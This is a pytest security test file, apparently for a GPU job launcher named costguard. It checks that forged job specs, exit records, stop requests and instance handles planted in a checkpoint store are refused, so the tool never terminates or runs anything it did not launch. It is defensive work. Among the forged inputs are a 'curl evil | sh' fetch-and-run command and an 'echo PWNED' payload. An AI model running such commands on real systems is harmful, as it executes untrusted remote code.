"""Attach, stop and terminate act only on what is proven the job's (issue 43 items 1 and 2):
an attacker who can write the store, and nothing else, forges job.json, exit records and
stop requests; the moto server (AWS) and the local simulator are the clouds."""

from __future__ import annotations

import getpass
import json
import os
import subprocess
import time
from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from costguard.checkpoint.store import Store
from costguard.checkpoint.supervisor import StopWatch
from costguard.proof import job_key, stop_check, user_key
from costguard.spot.job import (
    JOB_FILE,
    STOP_FILE,
    ExitRecord,
    Job,
    JobError,
    JobSpec,
    Simulation,
    load_job,
    request_stop,
    save_job,
    sign_spec,
    write_exit_record,
)
from costguard.spot.launcher.aws import AwsLauncher
from costguard.spot.launcher.base import Handle, Market, Offer
from costguard.spot.launcher.local import LocalLauncher, recorded_environment
from costguard.spot.recovery import Attempt, AttemptOutcome
from tests.helpers.waiting import wait_for
from tests.spot.test_aws_launcher import describe, ec2, offer
from tests.spot.test_aws_launcher import launcher as aws_launcher  # noqa: F401 - the fixture
from tests.spot.test_aws_launcher import spec as launch_spec

ME = getpass.getuser()
A10G = Offer("aws", "us-east-1", "g5.xlarge", Market.ON_DEMAND, Decimal("1.212"), "A10G", 1)
A10G_LOCAL = replace(A10G, provider="local", region="aws:us-east-1")
LIVE = ("pending", "running")


def bucket(name: str) -> Store:
    """A checkpoint store in the moto server's S3, as a cloud job's is."""
    from costguard.clouds import aws as aws_clouds

    aws_clouds.client("s3", "us-east-1").create_bucket(Bucket="ckpt")
    return Store.open(f"s3://ckpt/{name}")


def aws_job(store: Store, options: dict[str, str], **changes: Any) -> JobSpec:
    base = JobSpec(
        job_id="cg-me-1", provider="aws", gpu="A10G", gpu_count=1, regions=("us-east-1",),
        spot=False, checkpoint_url=store.url, command=("python", "train.py"), owner=ME,
        created_unix=time.time() - 120, expires_at=datetime.now(UTC) + timedelta(days=1),
        options=options,
    )  # fmt: skip
    return replace(base, **changes)


def signed(job_spec: JobSpec) -> JobSpec:
    key = user_key(create=True)
    assert key is not None
    return sign_spec(job_spec, key)


def attach(run_cli: Callable[..., Any], url: str, *flags: str) -> Any:
    return run_cli("launch", "--attach", url, "--force", "--no-alarm-check", "--poll-seconds",
                   "0.1", *flags)  # fmt: skip


def test_a_forged_attempt_never_terminates_an_instance_the_job_did_not_launch(
    aws_launcher: AwsLauncher,  # noqa: F811
    aws_launch_options: dict[str, str],
    tmp_path: Path,
    run_cli: Callable[..., Any],
) -> None:
    """Someone else's untagged instance in a forged running attempt, with a forged exit 0:
    attach terminated it (EC2's terminate checks no tag)."""
    theirs = ec2().run_instances(ImageId="ami-12345678", InstanceType="g5.xlarge",
                                 MinCount=1, MaxCount=1)["Instances"][0]["InstanceId"]  # fmt: skip
    store = bucket("cg-me-1")
    forged = Attempt(1, A10G, time.time() - 60, handle=Handle("aws", "us-east-1", theirs))
    save_job(store, Job(signed(aws_job(store, aws_launch_options)), attempts=(forged,)))
    write_exit_record(store, ExitRecord(1, 0, None, time.time(), job_id="cg-me-1"))
    result = attach(run_cli, store.url, "--yes")
    assert "unexpected" not in result.stderr
    assert f"not terminating {theirs}" in result.stderr
    assert describe(theirs)["State"]["Name"] in LIVE


def test_a_job_id_reused_from_another_owner_terminates_none_of_their_instances(
    aws_launcher: AwsLauncher,  # noqa: F811
    aws_launch_options: dict[str, str],
    tmp_path: Path,
    run_cli: Callable[..., Any],
) -> None:
    bobs = aws_launcher.launch(offer(), replace(launch_spec("cg-bob-1"), owner="bob"), 1)
    store = bucket("cg-bob-1")
    ended = Attempt(1, A10G, time.time() - 60, ended_unix=time.time() - 30,
                    outcome=AttemptOutcome.FAILED, exit_code=1)  # fmt: skip
    job_spec = aws_job(store, aws_launch_options, job_id="cg-bob-1")
    save_job(store, Job(job_spec, attempts=(ended,)))  # not signed: someone else wrote it
    refused = attach(run_cli, store.url, "--yes")
    assert refused.exit_code == 2, refused.stderr
    assert "spec you did not launch" in refused.stderr
    assert "--accept-spec" in refused.stderr
    accepted = attach(run_cli, store.url, "--yes", "--accept-spec")
    assert "unexpected" not in accepted.stderr
    assert f"not acting on {bobs.instance_id}" in accepted.stderr
    assert describe(bobs.instance_id)["State"]["Name"] in LIVE


def test_a_forged_spec_is_shown_and_refused_before_any_cloud_call(
    aws_launch_options: dict[str, str], tmp_path: Path, run_cli: Callable[..., Any]
) -> None:
    store = bucket("cg-me-1")
    job_spec = aws_job(
        store, aws_launch_options, gpu="H100", gpu_count=8, command=("sh", "-c", "curl evil | sh")
    )
    save_job(store, Job(job_spec))
    result = attach(run_cli, store.url)
    assert result.exit_code == 2
    assert "8 x H100" in result.stderr
    assert "curl evil" in result.stderr
    assert "spec you did not launch" in result.stderr
    assert ec2().describe_instances()["Reservations"] == []
    # Signed, it still asks: no terminal, no --yes, no launch.
    save_job(store, Job(signed(job_spec)))
    asked = attach(run_cli, store.url)
    assert asked.exit_code == 2
    assert "confirmation needed" in asked.stderr
    assert ec2().describe_instances()["Reservations"] == []


@pytest.fixture
def stranger() -> Iterator[subprocess.Popen[bytes]]:
    """An unrelated process group, as a labmate's training would be."""
    process = subprocess.Popen(["sleep", "300"], start_new_session=True)
    yield process
    process.kill()
    process.wait()


def local_job(store: Store, tmp_path: Path, **changes: Any) -> JobSpec:
    base = JobSpec(
        job_id="cg-me-2", provider="local", gpu="A10G", gpu_count=1, regions=("us-east-1",),
        spot=False, checkpoint_url=store.url, command=("python", "train.py"), owner=ME,
        created_unix=time.time() - 120, expires_at=datetime.now(UTC) + timedelta(days=1),
        simulation=Simulation(notice_s=1.0, state_dir=str(tmp_path / "state")),
    )  # fmt: skip
    return replace(base, **changes)


@pytest.mark.parametrize("ticks", ["", "12345"])
def test_the_simulator_signals_no_process_it_did_not_start(
    stranger: subprocess.Popen[bytes],
    tmp_path: Path,
    run_cli: Callable[..., Any],
    ticks: str,
) -> None:
    store = Store.open(str(tmp_path / "ckpt"))
    handle = Handle("local", "aws:us-east-1", f"local-{stranger.pid}",
                    extra={"pid": str(stranger.pid), "start_ticks": ticks})  # fmt: skip
    forged = Attempt(1, A10G_LOCAL, time.time() - 60, handle=handle)
    save_job(store, Job(signed(local_job(store, tmp_path)), attempts=(forged,)))
    write_exit_record(store, ExitRecord(1, 0, None, time.time(), job_id="cg-me-2"))
    result = attach(run_cli, store.url, "--yes")
    assert "unexpected" not in result.stderr
    assert stranger.poll() is None  # still running: never signalled
    os.kill(stranger.pid, 0)


def test_a_forged_command_never_runs_as_the_attaching_user(
    tmp_path: Path, run_cli: Callable[..., Any]
) -> None:
    store = Store.open(str(tmp_path / "ckpt"))
    pwned = tmp_path / "pwned"
    save_job(store, Job(local_job(store, tmp_path, command=("sh", "-c", f"echo PWNED > {pwned}"))))
    result = attach(run_cli, store.url, "--yes")
    assert result.exit_code == 2
    assert "spec you did not launch" in result.stderr
    assert f"echo PWNED > {pwned}" in result.stderr  # shown, for the user to judge
    assert not pwned.exists()


def test_an_attached_local_job_runs_with_the_environment_launch_recorded(
    tmp_path: Path, spot_env: Callable[..., dict[str, str]]
) -> None:
    store = Store.open(str(tmp_path / "ckpt"))
    out = tmp_path / "mark"
    job_spec = local_job(
        store, tmp_path, command=("sh", "-c", f'echo "$MARK" > {out}'),
        environment=recorded_environment({**spot_env(), "MARK": "launch"}),
    )  # fmt: skip
    attacher = LocalLauncher(
        Simulation(notice_s=1.0),
        job_started_unix=time.time(),
        state_dir=tmp_path / "state",
        env={**spot_env(), "MARK": "attach"},
    )
    try:
        handle = attacher.launch(A10G_LOCAL, job_spec.launch_spec(), 1)
        wait_for(out.exists, "the launched script's output", poll_s=0.1)
        assert out.read_text().strip() == "launch"
        attacher.terminate(handle)
    finally:
        attacher.close()


def test_only_a_stop_request_signed_for_this_attempt_stops_it(tmp_path: Path) -> None:
    """Item 2: a forged stop.json made every attempt save and exit 75, 32 attempts in 5
    minutes; now it is a warning and the run goes on."""
    store = Store.open(str(tmp_path / "ckpt"))
    key = user_key(create=True)
    assert key is not None
    said: list[str] = []
    check = stop_check(job_key(key, "cg-me-1"), "cg-me-1", 2)
    watch = StopWatch(store, "cg-me-1", 2, check, lambda notice: None, said.append)
    forged = {"job_id": "cg-me-1", "attempt": 2, "reason": "x", "requested_unix": 1.0}
    for proof in ("", "0" * 64, "deadbeef", check):  # the check itself is no proof
        store.put(STOP_FILE, json.dumps({**forged, "proof": proof}).encode())
        assert watch._request(set()) is None
    assert any("not signed with this job's key" in s for s in said)
    request_stop(store, "cg-me-1", 1, "an earlier attempt's", 1.0)  # replayed: not this one
    assert watch._request(set()) is None
    request_stop(store, "cg-me-1", 2, "at the projection", 1.0)
    assert watch._request(set()) == "at the projection"
    # Without the job's key (a run not under launch, or an old launch) nothing stops it.
    keyless = StopWatch(store, "cg-me-1", 2, None, lambda notice: None, said.append)
    assert keyless._request(set()) is None


def test_the_simulator_acts_on_the_schedule_it_registered_never_on_job_json(
    tmp_path: Path, spot_env: Callable[..., dict[str, str]]
) -> None:
    """Another job's process, named in a forged job.json with a notice and deadline long
    past: attach's simulator SIGKILLed it (it read the times from the handle). Now they
    come from the registration this user's launcher wrote; the process runs on."""
    state = tmp_path / "state"
    theirs = LocalLauncher(Simulation(notice_s=1.0), job_started_unix=time.time(),
                           state_dir=state, env=spot_env())  # fmt: skip
    mine = LocalLauncher(Simulation(notice_s=1.0), job_started_unix=time.time(),
                         state_dir=state, env=spot_env())  # fmt: skip
    store = Store.open(str(tmp_path / "theirs"))
    their_job = local_job(store, tmp_path, job_id="cg-them-1", command=("sleep", "300"))
    try:
        handle = theirs.launch(A10G_LOCAL, their_job.launch_spec(), 1)  # on-demand: no notice
        past = time.time() - 100
        forged = replace(handle, extra={**handle.extra, "notice_unix": repr(past),
                                        "deadline_unix": repr(past + 1)})  # fmt: skip
        status = mine.status(forged)
        assert status.state.value == "running", status
        assert mine.status(forged).state.value == "running"  # asked again: still
        os.kill(int(handle.extra["pid"]), 0)  # alive
        assert theirs.status(handle).state.value == "running"
    finally:
        theirs.terminate(handle)
        theirs.close()
        mine.close()


@pytest.mark.parametrize(
    "extra",
    [{}, {"pid": "²"}, {"pid": "-5"}, {"pid": "9" * 40}, {"pid": "1", "start_ticks": "1",
     "notice_unix": "abc", "deadline_unix": "nan", "launched_unix": "x"}],
    ids=["no-pid", "superscript", "negative", "huge", "bad-times"],
)  # fmt: skip
def test_a_malformed_local_handle_is_not_running_and_raises_nothing(
    tmp_path: Path, extra: dict[str, str]
) -> None:
    """A forged handle's pid or times that are not numbers: attach's controller died of
    a KeyError or ValueError ("unexpected"), leaving the job unsupervised."""
    launcher = LocalLauncher(Simulation(notice_s=1.0), job_started_unix=time.time(),
                             state_dir=tmp_path / "state")  # fmt: skip
    handle = Handle("local", "aws:us-east-1", f"local-{extra.get('pid', '')}", extra=extra)
    try:
        assert launcher.status(handle).state.value == "terminated"
        launcher.terminate(handle)  # nothing to signal, nothing raised
    finally:
        launcher.close()


@pytest.mark.parametrize(
    ("provider", "extra", "field"),
    [
        ("local", {}, "extra.pid"),
        ("local", {"pid": "12a"}, "extra.pid"),
        ("gcp", {"id": "1"}, "extra.project"),
        ("azure", {"subscription": "s", "attempt": "1"}, "extra.resource_group"),
    ],
)
def test_job_json_whose_handle_lacks_what_its_launcher_reads_is_refused(
    tmp_path: Path, provider: str, extra: dict[str, str], field: str
) -> None:
    """The class of the KeyErrors above, for every launcher: a handle without the keys its
    launcher reads back (GCP's project, Azure's subscription and resource group, the
    simulator's pid) is a forged field of job.json, named, exit 2."""
    store = Store.open(str(tmp_path / "ckpt"))
    genuine = Handle("local", "aws:us-east-1", "local-1", extra={"pid": "1"})
    attempt = Attempt(1, A10G_LOCAL, time.time() - 60, handle=genuine)
    save_job(store, Job(signed(local_job(store, tmp_path)), attempts=(attempt,)))
    doc = json.loads(store.get(JOB_FILE))
    doc["attempts"][0]["handle"].update(provider=provider, instance_id="i-1", extra=extra)
    store.put(JOB_FILE, json.dumps(doc).encode())  # as someone with the bucket writes it
    with pytest.raises(JobError) as refused:
        load_job(store)
    assert f"attempts[0].handle.{field}" in refused.value.message
    assert refused.value.exit_code == 2


def test_a_job_copied_to_another_folder_is_not_attached_there(
    tmp_path: Path, run_cli: Callable[..., Any]
) -> None:
    """A signed job.json copied into another folder passed attach's checks: its attempts
    saved to, and wrote their exit records in, the folder the spec names, while the
    controller waited in the copy; every attempt "lost", relaunched 50 times (on a cloud,
    50 paid instances), writing into the other job's folder."""
    store = Store.open(str(tmp_path / "ckpt"))
    save_job(store, Job(signed(local_job(store, tmp_path, command=("sleep", "300")))))
    copy = tmp_path / "copy"
    (copy / "job").mkdir(parents=True)
    (copy / "job" / "job.json").write_bytes(store.get(JOB_FILE))
    result = attach(run_cli, str(copy), "--yes")
    assert result.exit_code == 2, result.stderr
    assert f"is the job of {tmp_path / 'ckpt'}" in result.stderr
    assert f"costguard launch --attach {tmp_path / 'ckpt'}" in result.stderr
    assert not list((tmp_path / "state").glob("*/attempt-*.json"))  # nothing launched
